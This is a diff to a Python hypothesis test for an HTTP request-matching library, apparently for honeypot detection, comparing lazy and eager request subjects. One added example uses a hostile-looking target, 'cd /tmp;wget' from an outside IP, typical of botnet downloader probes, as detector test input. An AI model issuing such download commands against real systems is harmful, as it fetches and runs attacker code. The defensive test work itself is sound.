@@ -12,7 +12,7 @@ import binascii
 import re
 from pathlib import Path
 
-from hypothesis import given, settings
+from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from honeyguard.detect import Ruleset, raw_http_subject
@@ -156,27 +156,46 @@ def test_a_target_start_factor_is_bound_to_the_request_line(tmp_path: Path) -> N
         assert ruleset.engine("hyperscan").match(subject).rules == ("t-proxy",)
 
 
-TEXTS = st.lists(
-    st.sampled_from(["a", "/", "?", " ", ":", "\n", "\r", "\t", "%2e", "${", "é", "€", "\udcff", "wget"]), max_size=6
-).map("".join)
+_TEXT_PIECES = ["a", "/", "?", " ", ":", "\n", "\r", "\t", "%2e", "${", "é", "€", "\udcff", "wget", "$", "+"]
+TEXTS = st.lists(st.sampled_from([*_TEXT_PIECES, "à\x80\xae"]), max_size=6).map("".join)
+HEADER_NAMES = st.one_of(st.sampled_from(["Host", "host", "HOST", "Hos", "Host ", "X-A", ""]), TEXTS)
+LAZY_FIELDS = ("request", "target", "url", "path", "query", "method", "body", "headers", "header.*", "header.host")
 
 
-@settings(max_examples=300, deadline=None)
-@given(TEXTS, st.lists(st.tuples(TEXTS, TEXTS), max_size=4), st.binary(max_size=12))
+@settings(max_examples=400, deadline=None)
+@given(
+    TEXTS,
+    st.lists(st.tuples(HEADER_NAMES, TEXTS), max_size=4),
+    st.binary(max_size=12),
+    st.sampled_from(["GET", "POST", "M-SEARCH", "GÉT"]),
+)
+@example("shell?cd+/tmp;wget+http://198.51.100.7/a", [("Host", "h:80"), ("X", "y")], b"", "GET")  # 'request' from raw
+@example("a\xe0\x80\xae/?x", [("host", " h ")], b"b=1", "POST")  # url differs from the target, a body
+@example("a", [], b"", "GET")  # no header at all
 def test_a_recorded_request_s_lazy_subject_is_its_parts_subject(
-    target: str, headers: list[tuple[str, str]], body: bytes
+    target: str, headers: list[tuple[str, str]], body: bytes, method: str
 ) -> None:
     """A recorded request's subject makes its raw bytes from the strings and its parts only when
-    a field needs them: every field, view and IOC input is the one its parts give."""
-    request = HttpRequest(method="GET", target="/" + target, version="HTTP/1.1", headers=headers, body=body)
+    a field needs them (the request line, 'request' and the IOC inputs are cut from the raw bytes
+    by the strings' lengths): every field, view and IOC input is the one its parts give, whichever
+    is asked for first."""
+    request = HttpRequest(method=method, target="/" + target, version="HTTP/1.1", headers=headers, body=body)
     lazy = event_subject(http_event(request))
     eager = HttpSubject(_request_parts(request), None)
     assert isinstance(lazy, HttpSubject)
     assert lazy.raw_bytes() == eager.raw_bytes()
     assert lazy.prefilter_view() == eager.prefilter_view()
     assert lazy.payload_parts() == eager.payload_parts()
+    assert lazy.first_host() == eager.first_host()
     assert (lazy.texts, lazy.host, lazy.header_values) == (eager.texts, eager.host, eager.header_values)
     assert lazy.fields == eager.fields
+    for name in LAZY_FIELDS:  # each first, on a fresh subject, after the prefilter's view as the engine asks
+        fresh = event_subject(http_event(request))
+        assert isinstance(fresh, HttpSubject)
+        fresh.prefilter_view(False)
+        assert fresh.field(name) == eager.field(name), name
+        assert fresh.texts == eager.texts and fresh.first_host() == eager.first_host(), name
+        assert fresh.fields == eager.fields, name
 
 
 def test_payload_parts_do_not_depend_on_whether_the_request_was_split() -> None:
